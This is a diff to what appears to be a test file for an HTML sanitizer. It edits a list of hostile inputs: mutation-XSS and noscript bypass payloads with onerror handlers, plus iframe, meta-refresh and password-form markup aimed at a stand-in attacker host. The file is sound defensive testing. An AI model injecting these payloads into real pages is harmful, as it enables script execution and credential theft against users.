@@ -18,7 +18,7 @@ from shared.html import clean_html, text_of_html
         '<iframe src="https://evil.example"></iframe>',
         '<form action="https://evil.example"><input name="password"></form>',
         '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+        "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
         "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     ],
 )
